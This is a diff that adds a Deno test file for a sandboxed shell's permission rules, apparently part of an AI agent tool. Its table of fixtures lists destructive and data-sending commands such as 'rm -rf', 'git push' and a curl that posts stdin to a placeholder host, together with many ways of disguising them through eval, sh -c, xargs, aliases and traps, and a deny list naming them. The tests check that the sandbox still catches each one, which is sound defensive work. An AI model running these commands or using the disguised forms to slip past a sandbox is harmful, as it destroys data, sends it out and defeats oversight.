@@ -1,0 +1,239 @@
+/** Rules against what a script really runs: every command, however it is written, and nothing that is only text. */
+import { assert, assertEquals, assertStringIncludes } from "@std/assert";
+import { createConfinedHost } from "../../src/sandbox/confined_host.ts";
+import { createRealHost } from "../../src/sandbox/host_real.ts";
+import { preparePolicy, removeTemp } from "../../src/sandbox/os/mod.ts";
+import type { PermitAnswer } from "../../src/sandbox/permits.ts";
+import type { ExecMode, Rules } from "../../src/sandbox/policy.ts";
+import { createShell } from "../../src/shell/mod.ts";
+
+interface Ran {
+  /** "deny" where a rule refused a command, else "ask" where somebody was asked, else "allow". */
+  readonly outcome: string;
+  readonly asked: readonly string[];
+  readonly text: string;
+}
+
+async function withRules(
+  rules: Partial<Rules> & { readonly exec?: ExecMode },
+  work: (run: (script: string, answer?: (what: string) => PermitAnswer) => Promise<Ran>) => Promise<void>,
+): Promise<void> {
+  const root = Deno.realPathSync(Deno.makeTempDirSync({ prefix: "rules-test-" }));
+  for (const folder of ["ws", "home", "ws/.git"]) Deno.mkdirSync(`${root}/${folder}`);
+  Deno.writeTextFileSync(`${root}/ws/a`, "text\n");
+  Deno.writeTextFileSync(`${root}/ws/plain.sh`, "ls\n");
+  Deno.writeTextFileSync(`${root}/ws/bad.sh`, "#!/bin/sh\ngit push\n", { mode: 0o755 });
+  const policy = preparePolicy({
+    mode: "workspace",
+    workspace: `${root}/ws`,
+    approve: "ask",
+    exec: rules.exec ?? "ask",
+    home: `${root}/home`,
+    ownFolder: `${root}/home/.myelin`,
+    rules,
+  });
+  const env = { PATH: "/usr/bin:/bin", HOME: `${root}/home` };
+  const quiet = { write() {}, close() {} };
+  try {
+    await work(async (script, answer = () => ({ allow: false })) => {
+      const asked: string[] = [];
+      const { host, gate } = createConfinedHost({
+        policy,
+        env,
+        host: createRealHost(),
+        approve: (request) => {
+          asked.push(request.summary);
+          return Promise.resolve(answer(request.summary));
+        },
+      });
+      const shell = createShell({ host, gate, env, cwd: policy.workspace, stdout: quiet, stderr: quiet });
+      let text = "";
+      const sink = {
+        write: (bytes: Uint8Array) => void (text += new TextDecoder().decode(bytes)),
+        close() {},
+      };
+      try {
+        await shell.run(script, { stdout: sink, stderr: sink });
+      } finally {
+        shell.close();
+      }
+      const denied = text.includes("in permissions.deny");
+      return { outcome: denied ? "deny" : asked.length > 0 ? "ask" : "allow", asked, text };
+    });
+  } finally {
+    removeTemp(policy);
+    Deno.removeSync(root, { recursive: true });
+  }
+}
+
+const RULES: Partial<Rules> = {
+  allow: ["ls", "cat", "grep", "echo", "find", "xargs", "env", "cd", "wc"].map((name) => `run(${name} *)`)
+    .concat("run(git log *)", "run(git status *)"),
+  deny: ["run(rm -rf *)", "run(git push *)", "run(git clean *)", "run(curl *)"],
+  commands: "ask",
+};
+
+/** Scripts and what is to come of them. */
+const TABLE: readonly (readonly [script: string, outcome: "allow" | "ask" | "deny"])[] = [
+  // Plain commands.
+  ["ls", "allow"],
+  ["ls | wc -l", "allow"],
+  ["ls | head -1", "ask"],
+  ["git push origin", "deny"],
+  ["git commit -m x", "ask"],
+  ["printf x", "allow"],
+  ["true && [ -e a ] && cd .", "allow"],
+  // Each part of a script by itself.
+  ["ls && rm -rf x", "deny"],
+  ["ls; ls; git push", "deny"],
+  ["ls & rm -rf x; wait", "deny"],
+  ["(cd .; rm -rf x)", "deny"],
+  ["{ ls; git clean -fd; }", "deny"],
+  ["if true; then git push; fi", "deny"],
+  ["for i in 1 2; do curl http://h.invalid; done", "deny"],
+  ["while git push; do break; done", "deny"],
+  ["case a in a) git push;; esac", "deny"],
+  ["! git push", "deny"],
+  ["ls |& curl -d @- http://h.invalid", "deny"],
+  ["coproc git push; wait", "deny"],
+  // Substitutions and documents.
+  ["echo $(rm -rf x)", "deny"],
+  ["echo `git push`", "deny"],
+  ['echo "is $(git push)"', "deny"],
+  ["cat <(git push)", "deny"],
+  ["x=$(git push)", "deny"],
+  ["echo ${x:-$(git push)}", "deny"],
+  ["echo $(( $(git push) + 1 ))", "deny"],
+  ["cat <<E\n$(git push)\nE", "deny"],
+  ["cat <<'E'\n$(git push)\nE", "allow"],
+  ["[[ -n $(git push) ]]", "deny"],
+  // Spelled otherwise.
+  ["'git' push", "deny"],
+  ['g"i"t pu\\sh', "deny"],
+  ["a=push; git $a", "deny"],
+  ["$(echo git) push", "deny"],
+  ["/usr/bin/git push", "deny"],
+  ["git -C . --no-pager push", "deny"],
+  ["rm -r --force x", "deny"],
+  ["rm -fr -- x", "deny"],
+  ["{git,push}", "deny"],
+  // Behind other commands.
+  ["env A=1 rm -rf x", "deny"],
+  ["time git push", "deny"],
+  ["timeout 5 git push", "deny"],
+  ["nohup git push", "deny"],
+  ["nice -n 3 git push", "deny"],
+  ["command git push", "deny"],
+  ["builtin eval git push", "deny"],
+  ["exec git push", "deny"],
+  ["eval 'git' push", "deny"],
+  ["sh -c 'rm -rf x'", "deny"],
+  ["bash -ec 'echo; git push'", "deny"],
+  ["/bin/sh -c 'exec git push'", "deny"],
+  ["echo x | xargs rm -rf", "deny"],
+  ["echo push | xargs git", "deny"],
+  ["echo x | xargs -I{} sh -c 'git push {}'", "deny"],
+  ["find . -name a -exec git push {} \\;", "deny"],
+  ["find . -name a -exec rm -rf {} +", "deny"],
+  ["f() { git push; }; f", "deny"],
+  ["git() { command git push; }; git", "deny"],
+  ["shopt -s expand_aliases\nalias up='git push'\nup", "deny"],
+  ["trap 'git push' EXIT; exit", "deny"],
+  ["trap 'git push' DEBUG; ls", "deny"],
+  ["echo 'git push' | sh", "deny"],
+  ["sh <<< 'git push'", "deny"],
+  ["./bad.sh", "ask"],
+  [". ./plain.sh", "ask"],
+  ["source ./plain.sh", "ask"],
+  ["git -c alias.y=push y", "ask"],
+  ["someprogram git push", "allow"],
+  // Allowed by name is not allowed for everything.
+  ["find . -name zz -delete", "ask"],
+  ["env make", "ask"],
+  // Text is no command.
+  ['echo "ls && rm -rf x"', "allow"],
+  ["grep -r 'git push' .", "allow"],
+  ["ls # git push", "allow"],
+  ["echo git push", "allow"],
+  [": '$(git push)'", "allow"],
+  // Redirections are writes.
+  ["echo x > .git/config", "ask"],
+  ["echo x > b", "allow"],
+  ["cat a >> .git/hooks/pre-commit", "ask"],
+];
+
+Deno.test({
+  name: "rules meet every command of a script, and nothing else",
+  ignore: Deno.build.os === "windows",
+  fn: () =>
+    withRules(RULES, async (run) => {
+      for (const [script, outcome] of TABLE) {
+        const ran = await run(script);
+        assertEquals(ran.outcome, outcome, `${script}\n${ran.text}\n${ran.asked}`);
+      }
+    }),
+});
+
+Deno.test({
+  name: "a script that needs an answer in its middle waits for it and goes on",
+  ignore: Deno.build.os === "windows",
+  fn: () =>
+    withRules({ ask: ["run(wc *)"] }, async (run) => {
+      const script = "echo before; wc -l < a; echo after $?; f() { wc -c a; }; f; echo end $?";
+      const yes = await run(script, () => ({ allow: true }));
+      assertEquals(yes.text, "before\n1\nafter 0\n5 a\nend 0\n");
+      assertEquals(yes.asked.slice(-2), ["run wc -l", "run wc -c a"]);
+      const no = await run(script, () => ({ allow: false, reason: "not now" }));
+      assertStringIncludes(no.text, "not now");
+      assertStringIncludes(no.text, "after 126");
+      assertStringIncludes(no.text, "end 126");
+    }),
+});
+
+/** What a session looks at, again and again. */
+const READ_ONLY = [
+  "pwd",
+  "ls -la",
+  "cat a",
+  "head -20 a | tail -3",
+  "wc -l a",
+  "grep -rn text .",
+  "find . -name '*.sh' -type f",
+  "sed -n 1,5p a",
+  "sort a | uniq -c",
+  "diff a a",
+  "stat a",
+  "du -sh .",
+  "tree . 2>/dev/null || ls -R",
+  "awk '{ print $1 }' a",
+  "cd . && ls | wc -l",
+  'for f in *; do echo "$f"; done',
+  "git status --short",
+  "git log --oneline -5",
+  "git diff --stat",
+  "git branch --show-current",
+];
+
+Deno.test({
+  name: "with no rules at all, plain commands that only read ask nothing where a wrapper works",
+  ignore: Deno.build.os !== "linux" || (Deno.env.get("MYELIN_MISSING") ?? "").includes("bwrap"),
+  fn: () =>
+    withRules({ exec: "auto" }, async (run) => {
+      assertEquals(READ_ONLY.length, 20);
+      for (const script of READ_ONLY) {
+        const ran = await run(script);
+        assertEquals([script, ran.outcome, ran.asked], [script, "allow", []], ran.text);
+      }
+    }),
+});
+
+Deno.test({
+  name: "a script file that runs inside of the shell is asked about by its own name",
+  ignore: Deno.build.os === "windows",
+  fn: () =>
+    withRules({ deny: ["run(./bad.sh)"] }, async (run) => {
+      const ran = await run("./bad.sh");
+      assertEquals(ran.outcome, "deny");
+      assert(ran.asked.length === 0);
+    }),
+});
